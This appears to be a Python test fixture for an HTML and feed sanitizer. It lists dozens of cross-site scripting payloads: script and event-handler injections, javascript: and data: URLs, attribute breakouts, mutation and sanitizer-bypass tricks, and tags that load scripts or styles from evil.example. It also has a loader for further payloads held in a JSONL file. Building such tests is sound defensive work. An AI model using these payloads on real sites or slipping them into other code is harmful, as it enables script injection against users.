"""Attacks by markup, written for the tests: every one of them would call alert(1), or load something, where it worked."""

from __future__ import annotations

import json
from collections.abc import Iterator
from pathlib import Path

from lxml import etree

VECTORS = {
    "script": "<script>alert(1)</script>",
    "script in a script": "<scr<script></script>ipt>alert(1)</scr<script></script>ipt>",
    "script without end": "<script src=//evil.example/x.js",
    "script after an attribute": '"><script>alert(1)</script>',
    "event handler": "<img src=x onerror=alert(1)>",
    "event handler without spaces": "<svg/onload=alert(1)>",
    "event handler in a body": "<body onload=alert(1)>",
    "event handler behind a control character": "<img src=x \x01onerror=alert(1)>",
    "event handler in an allowed tag": '<p onclick="alert(1)" onmouseover=alert(1)>x</p>',
    "javascript link": '<a href="javascript:alert(1)">x</a>',
    "javascript link in capitals with a tab": '<a href="JaVa&#9;ScRiPt:alert(1)">x</a>',
    "javascript link behind a control character": '<a href="\x01javascript:alert(1)">x</a>',
    "javascript link in references": '<a href="&#106;avascript&colon;alert(1)">x</a>',
    "javascript picture": "<img src=javascript:alert(1)>",
    "vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "data page": '<a href="data:text/html,<script>alert(1)</script>">x</a>',
    "data picture with a script": '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
    "late picture": '<img data-src="javascript:alert(1)">',
    "poster": '<video poster="javascript:alert(1)" src="javascript:alert(1)"></video>',
    "style sheet": "<style>@import 'javascript:alert(1)';</style>",
    "style attribute": '<p style="background:url(javascript:alert(1))">x</p>',
    "linked style sheet": "<link rel=stylesheet href=//evil.example/x.css>",
    "refresh": '<meta http-equiv=refresh content="0;url=javascript:alert(1)">',
    "base": '<base href="javascript:alert(1)//">',
    "frame": "<iframe src=javascript:alert(1)></iframe>",
    "frame with a page in it": '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "frame that is nearly a video": '<iframe src="https://www.youtube.com/embed/abcdefghijk&quot; onload=alert(1)"></iframe>',
    "frame around a script": "<iframe><script>alert(1)</script></iframe>",
    "object": "<object data=javascript:alert(1)><embed src=javascript:alert(1)></object>",
    "form": "<form action=javascript:alert(1)><button formaction=javascript:alert(1)>x</button></form>",
    "details": "<details open ontoggle=alert(1)>x</details>",
    "MathML": '<math href="javascript:alert(1)"><mtext><style><img src=x onerror=alert(1)>',
    "SVG": "<svg><animate onbegin=alert(1) attributeName=x><a xlink:href=javascript:alert(1)>x</a></svg>",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "mutation": "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;<img src=x onerror=alert(1)>'>",
    "mutation in a template": "<template><p title='</template><img src=x onerror=alert(1)>'>",
    "text area": "<textarea></textarea><img src=x onerror=alert(1)>",
    "plain text": "<plaintext><img src=x onerror=alert(1)>",
    "comment": "<!--><img src=x onerror=alert(1)>-->",
    "CDATA": "<![CDATA[<img src=x onerror=alert(1)>]]>",
    "escaped": "&lt;script&gt;alert(1)&lt;/script&gt;",
    "escaped twice": "&amp;lt;img src=x onerror=alert(1)&amp;gt;",
    "quotes": '" onmouseover="alert(1)" x=\'',
}

# What breaks out of an attribute, an address, an element of a page or a document that is written around it.
BREAKOUTS = {
    "out of an attribute": '" autofocus tabindex=1 onfocus=alert(1) x="',
    "out of an attribute in single quotes": "' autofocus tabindex=1 onfocus=alert(1) x='",
    "out of an attribute without quotes": "x onmouseover=alert(1) ",
    "out of a title": "</title><script>alert(1)</script>",
    "out of a style": "</style><script>alert(1)</script>",
    "out of a script": "</script><script>alert(1)</script>",
    "out of a comment": "--><script>alert(1)</script><!--",
    "out of a CDATA section": "]]><script>alert(1)</script>",
    "out of an XML document": "</content></entry></feed><script xmlns='http://www.w3.org/1999/xhtml'>alert(1)</script>",
    "out of a text area": "</textarea><img src=x onerror=alert(1)>",
    "out of a noscript": "</noscript><img src=x onerror=alert(1)>",
    "out of an address": 'https://evil.example/" onmouseover="alert(1)',
    "markup in an address": "https://evil.example/<script>alert(1)</script>?<img src=x onerror=alert(1)>",
    "markup in a fragment": 'https://evil.example/#"><img src=x onerror=alert(1)>',
    "markup in a host": 'https://evil.example"><img src=x onerror=alert(1)>/',
    "a line break in an address": 'https://evil.example/\n" onclick="alert(1)',
    "a template": "{{ 7 * 7 }}{% raw %}${alert(1)}<%= alert(1) %>",
    "JavaScript as an address": "javascript:alert(1)",
    "JavaScript as an address with a host": "javascript://evil.example/%0aalert(1)",
    "JavaScript behind spaces": " \t\n javascript:alert(1)",
    "JavaScript with a tab inside": "java\tscript:alert(1)",
    "JavaScript in references": "&#x6A;avascript&colon;alert(1)",
    "JavaScript in a feed's scheme": "feed:javascript:alert(1)",
    "JavaScript to be viewed": "view-source:javascript:alert(1)",
    "a page as an address": "data:text/html,<script>alert(1)</script>",
    "a page as an address, encoded": "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    "a picture as an address": "data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    "a scheme without a host": "https:javascript:alert(1)",
    "a host without a scheme": "//evil.example/x.js",
    "a type": 'text/html" onload="alert(1)',
}

# What other cleaners have let through.
ESCAPES = {
    "animation": "<style>@keyframes x{}</style><p style='animation:x 1s' onanimationstart=alert(1)>x</p>",
    "autofocus": "<input autofocus onfocus=alert(1)><select autofocus onfocus=alert(1)>",
    "marquee": "<marquee onstart=alert(1)>x</marquee>",
    "source of a player": "<video><source onerror=alert(1)></video><audio src=x onerror=alert(1)>",
    "player that plays by itself": "<video autoplay onloadstart=alert(1) src=x><track onload=alert(1) default>",
    "popover": "<button popovertarget=x>x</button><input type=hidden popover id=x onbeforetoggle=alert(1)>",
    "shadow root": "<div><template shadowrootmode=open><img src=x onerror=alert(1)></template></div>",
    "nested forms": "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=alert(1)>",
    "a table that throws out": "<table><td><svg><desc><table><img src=x onerror=alert(1)></table></svg></table>",
    "annotation": "<math><annotation-xml encoding='text/html'><script>alert(1)</script></annotation-xml></math>",
    "foreign object": "<svg><foreignObject><iframe srcdoc='<script>alert(1)</script>'></iframe></foreignObject></svg>",
    "script in SVG": "<svg><script href='data:text/javascript,alert(1)'></script><script>alert&#40;1)</script></svg>",
    "use": "<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><image href='1' onerror='alert(1)'/></svg>#x\"/></svg>",
    "set": "<svg><a><set attributeName=href to=javascript:alert(1) /><text y=20>x</text></a></svg>",
    "a comment that ends early": "<!--!><img src=x onerror=alert(1)>--!><img src=x onerror=alert(1)>",
    "a processing instruction": "<?xml-stylesheet href='javascript:alert(1)'?><?x ><img src=x onerror=alert(1)>?>",
    "an end tag with attributes": "</p onclick=alert(1)><br/onclick=alert(1)>",
    "an attribute with no name": '<img src=x "=" onerror=alert(1)>',
    "slashes for spaces": "<img/src=x/onerror=alert(1)//",
    "form feed for a space": "<img\x0csrc=x\x0conerror=alert(1)>",
    "NUL in a name": "<scr\x00ipt>alert(1)</scr\x00ipt><img src=x one\x00rror=alert(1)>",
    "full-width brackets": "＜script＞alert(1)＜/script＞",
    "UTF-7": "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
    "several sizes": "<img srcset='x 1x, javascript:alert(1) 2x' sizes=1px onerror=alert(1)>",
    "names that hide others": "<form id=body><input name=attributes><input name=parentNode><img name=cookie>",
    "frames": "<frameset onload=alert(1)><frame src=javascript:alert(1)></frameset>",
    "embedded data": "<embed src='data:text/html,<script>alert(1)</script>'><object data='data:text/html,<script>alert(1)</script>'>",
    "preload": "<link rel=preload as=script href=//evil.example/x.js><link rel=import href=//evil.example/x>",
    "refresh to data": "<meta http-equiv=refresh content='0;url=data:text/html,<script>alert(1)</script>'>",
    "import map": "<script type=importmap>{}</script><script type=module>alert(1)</script>",
    "ping": "<a href=https://evil.example/ ping=//evil.example/ping target=_top download>x</a>",
    "a button of another form": "<button form=x formaction=javascript:alert(1) type=submit>x</button>",
    "old elements": "<xmp><img src=x onerror=alert(1)></xmp><listing><img src=x onerror=alert(1)></listing><noembed><img src=x onerror=alert(1)></noembed>",
    "a quote that cites": "<blockquote cite=javascript:alert(1)>x</blockquote><q cite=javascript:alert(1)>x</q>",
    "behaviours": '<p style="-moz-binding:url(//evil.example/x.xml);behavior:url(//evil.example/x.htc);width:expression(alert(1))">x</p>',
    "background": "<table background=javascript:alert(1)><td background='//evil.example/x.png'>x</table>",
}

ATTACKS = {**VECTORS, **BREAKOUTS, **ESCAPES}


def corpus(folder: str) -> tuple[list[str], list[bytes]]:
    """The attacks kept outside of this project, each once, and those documents among them that are feeds.

    Of a feed, the texts and attributes are attacks as well, as they come out of its XML.
    """
    lines = (Path(folder) / "xss/vectors.jsonl").read_text(encoding="utf-8").splitlines()
    payloads = [str(json.loads(line)["payload"]) for line in lines]
    feeds = [payload.encode() for payload in payloads if "<rss" in payload or "<feed" in payload]
    texts = [text for feed in feeds for text in _texts(feed)]
    return list(dict.fromkeys((*payloads, *texts))), feeds


def _texts(feed: bytes) -> Iterator[str]:
    root = etree.fromstring(feed, etree.XMLParser(recover=True, resolve_entities=False, no_network=True))
    for element in root.iter("*"):
        whole = etree.QName(element).localname not in ("rss", "channel", "item", "feed", "entry", "image")
        inner = "".join(etree.tostring(child, encoding="unicode") for child in element) if whole else ""
        texts = (element.text or "", (element.text or "") + inner, *map(str, element.attrib.values()))
        yield from (text for text in texts if len(text) < 5_000 and ("<" in text or "script:" in text))
